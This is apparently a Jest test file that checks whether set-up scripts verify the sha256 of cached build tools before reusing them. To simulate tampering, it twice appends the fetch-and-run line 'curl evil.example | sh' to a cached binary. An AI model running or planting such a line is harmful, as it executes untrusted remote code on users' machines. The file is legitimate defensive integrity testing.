/**
 * The set-up steps reuse what they cached only when it still has the sha256
 * recorded when it was built (issue 23, low: "cached runner tools reused
 * without integrity checks"): scripts/setup.d/common.bash's cache_record and
 * cache_verify, and a real step (20-kube-tools.sh) run end to end with a
 * stand-in `go` first on PATH, so that a rebuild takes no minutes.
 */
import { execFile } from 'node:child_process';
import { appendFile, chmod, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';

const SETUP = join(import.meta.dirname, 'setup.d');
const COMMON = join(SETUP, 'common.bash');

interface Ran {
  code: number;
  stdout: string;
  stderr: string;
}

async function bash(args: string[], env: Record<string, string | undefined> = {}): Promise<Ran> {
  try {
    const r = await promisify(execFile)('bash', args, { env: { ...process.env, ...env } });
    return { code: 0, stdout: r.stdout, stderr: r.stderr };
  } catch (e) {
    const x = e as { code?: number; stdout?: string; stderr?: string };
    return { code: x.code ?? 1, stdout: x.stdout ?? '', stderr: x.stderr ?? '' };
  }
}

/** Run a helper of common.bash with arguments. */
const helper = (script: string, ...args: string[]) =>
  bash(['-c', `set -euo pipefail; source "${COMMON}"; ${script}`, 'helper', ...args]);

let dir: string;
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'setup-cache-'));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe('cache_record and cache_verify (scripts/setup.d/common.bash)', () => {
  beforeEach(async () => {
    await mkdir(join(dir, 'bin'));
    await writeFile(join(dir, 'bin', 'tool'), '#!/bin/sh\necho tool\n');
    await helper('cache_record "$1" bin', dir);
  });

  it('passes while the files are as recorded; a new .pyc (Python writes them) does not count', async () => {
    await writeFile(join(dir, 'bin', 'mod.cpython-311.pyc'), 'bytecode');
    expect(await helper('cache_verify "$1" tool bin', dir)).toEqual({ code: 0, stdout: '', stderr: '' });
  });

  it('fails naming a changed, a missing and an unrecorded file', async () => {
    await appendFile(join(dir, 'bin', 'tool'), 'curl evil.example | sh\n');
    await writeFile(join(dir, 'bin', 'extra.so'), 'x');
    expect(await helper('cache_verify "$1" tool bin', dir)).toEqual({
      code: 1,
      stdout: '',
      stderr: `tool: the cache in ${dir} does not match the sha256 recorded when it was built (changed or missing: bin/tool; not recorded: bin/extra.so): building it again\n`,
    });
    await rm(join(dir, 'bin', 'tool'));
    await rm(join(dir, 'bin', 'extra.so'));
    expect((await helper('cache_verify "$1" tool bin', dir)).stderr).toContain(
      '(changed or missing: bin/tool)',
    );
  });

  it('a cache from before the records gets one, and is checked from then on', async () => {
    await rm(join(dir, '.sha256'));
    expect(await helper('cache_verify "$1" tool bin', dir)).toEqual({
      code: 0,
      stdout: `tool: no sha256 recorded in ${dir}/.sha256 (cached before records were kept): recording them now\n`,
      stderr: '',
    });
    expect(await readFile(join(dir, '.sha256'), 'utf8')).toMatch(/^[0-9a-f]{64} {2}bin\/tool\n$/);
    await appendFile(join(dir, 'bin', 'tool'), 'x');
    expect((await helper('cache_verify "$1" tool bin', dir)).code).toBe(1);
  });
});

describe('regression: 20-kube-tools.sh reused a cached binary without checking it', () => {
  it('builds and records, reuses while it matches, builds again (saying so) once it was altered', async () => {
    const fake = join(dir, 'fake-go');
    const log = join(dir, 'go.log');
    await mkdir(fake);
    // Stands in for `go install <module>@<version>`: writes the tool into $GOBIN.
    await writeFile(
      join(fake, 'go'),
      `#!/bin/sh
echo "$*" >> "${log}"
[ "$1" = install ] || exit 3
for a; do m="$a"; done
case "$m" in *actionlint*) n=actionlint ;; *) n=kustomize ;; esac
printf '#!/bin/sh\\necho "%s built from %s"\\n' "$n" "$m" > "$GOBIN/$n"
chmod +x "$GOBIN/$n"
`,
    );
    await chmod(join(fake, 'go'), 0o755);
    const bin = join(dir, 'bin');
    const env = { PATH: `${fake}:${process.env.PATH}`, GITOPS_TOOLS_BIN: bin, ACTIONLINT_VERSION: 'v1.7.12' };
    const step = () => bash([join(SETUP, '20-kube-tools.sh')], env);
    const cached = join(bin, '.actionlint-v1.7.12', 'actionlint');
    const builds = async () =>
      (await readFile(log, 'utf8')).split('\n').filter((l) => l.includes('actionlint')).length;

    const first = await step();
    expect(first).toMatchObject({ code: 0 });
    expect(first.stdout).toContain(`built ${bin}/actionlint\n`);
    expect(first.stdout).toContain(
      'actionlint built from github.com/rhysd/actionlint/cmd/actionlint@v1.7.12',
    );
    expect(await builds()).toBe(1);

    const second = await step();
    expect(second.stdout).toContain(`actionlint v1.7.12 already built: ${bin}/actionlint\n`);
    expect(await builds()).toBe(1);

    await appendFile(cached, 'curl evil.example | sh\n');
    const third = await step();
    expect(third.code).toBe(0);
    expect(third.stderr).toContain(
      `actionlint v1.7.12: the cache in ${bin}/.actionlint-v1.7.12 does not match the sha256 recorded when it was built (changed or missing: actionlint): building it again\n`,
    );
    expect(await builds()).toBe(2);
    expect(await readFile(cached, 'utf8')).not.toContain('evil');

    expect((await step()).stdout).toContain('actionlint v1.7.12 already built');
    expect(await builds()).toBe(2);
  });
});

describe('every step that reuses a cache checks it', () => {
  it.each([
    '20-kube-tools.sh',
    '60-kubernetes.sh',
    '61-kwok.sh',
    '62-argocd.sh',
    '63-prometheus-operator-crds.sh',
    '64-argo-rollouts.sh',
    '65-seaweedfs.sh',
  ])('%s records the sha256 of what it built and verifies it before reuse', async (step) => {
    const text = await readFile(join(SETUP, step), 'utf8');
    expect(text).toMatch(/&& cache_verify "\$[A-Za-z_]+"/);
    expect(text).toMatch(/^ *cache_record "\$[A-Za-z_]+"/m);
  });
});
